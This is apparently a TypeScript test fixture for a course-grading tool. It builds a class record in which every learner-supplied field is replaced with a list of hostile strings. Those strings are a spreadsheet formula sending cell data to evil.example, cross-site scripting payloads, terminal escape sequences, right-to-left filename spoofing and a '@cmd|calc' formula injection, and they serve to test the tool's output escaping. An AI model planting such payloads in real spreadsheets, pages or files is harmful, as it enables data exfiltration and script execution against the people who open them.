/** A class of real results, and the same class with everything hostile that a learner can write. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';
import type { Bundle } from '../../checker/check/check-program.js';
import type { ClassGrades, LearnerGrade } from '../../grading/types.js';

const fixtures = fileURLToPath(new URL('fixtures', import.meta.url));

/** Made by `scripts/grading-fixture.mjs`: twelve learners, five lessons. */
export function classGrades(): ClassGrades {
  return JSON.parse(readFileSync(join(fixtures, 'class.json'), 'utf8'));
}

const bundles: Record<string, Bundle> = JSON.parse(
  gunzipSync(readFileSync(join(fixtures, 'bundles.json.gz'))).toString(),
);

export const bundleOf = (learner: string, lesson: string): Bundle | undefined =>
  bundles[`${learner}/${lesson}`];

export function learnerOf(grades: ClassGrades, id: string): LearnerGrade {
  const found = grades.learners.find(one => one.learner.id === id);
  if (!found) throw new Error(`no learner ${id}`);
  return found;
}

/** What a learner could put into a name, a topic, a payload, an output. */
export const EVIL = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>\'--></style></script><!--',
  '\u001B[31mred\u001B]8;;http://evil.example\u0007link\u001B]8;;\u0007\u0007',
  '\u202Egnp.exe\u2066\u200B\uFEFF',
  '``` ]]> </code> [x](javascript:alert(4)) ![y](http://evil.example/z.png) | # * _',
  '\uD800 half \u0000\u0001\uFFFF @cmd|calc +1 -1',
] as const;

/** Every text that can come from a learner says something hostile. */
export function hostileClass(): ClassGrades {
  const grades = classGrades();
  const evil = EVIL.join('\n');
  const texts = new Set(['seen', 'expected', 'why', 'try', 'stdout', 'stderr', 'submission']);
  const poison = (value: unknown, key = ''): unknown => {
    if (typeof value === 'string') return texts.has(key) ? evil : value;
    if (Array.isArray(value))
      return value.map(one => (key === 'notices' ? evil : poison(one, key)));
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(
      Object.entries(value).map(([name, one]) => [name, poison(one, name)]),
    );
  };
  const poisoned = poison(grades) as ClassGrades;
  return {
    ...poisoned,
    title: evil,
    unexpected: [evil],
    learners: poisoned.learners.map((one, at) => ({
      ...one,
      learner: {
        id: `${EVIL[at % EVIL.length]}${at}`,
        name: EVIL[(at + 1) % EVIL.length] ?? '',
        email: `${EVIL[(at + 2) % EVIL.length]}@x`,
      },
    })),
  };
}

/** The same class, in which everybody is excused from one lesson. */
export function excusedClass(lesson: string): ClassGrades {
  const grades = classGrades();
  return {
    ...grades,
    learners: grades.learners.map(one => ({
      ...one,
      lessons: one.lessons.map(it =>
        it.lesson === lesson ? { ...it, excused: true as const, points: 0, earned: 0, max: 0 } : it,
      ),
    })),
  };
}
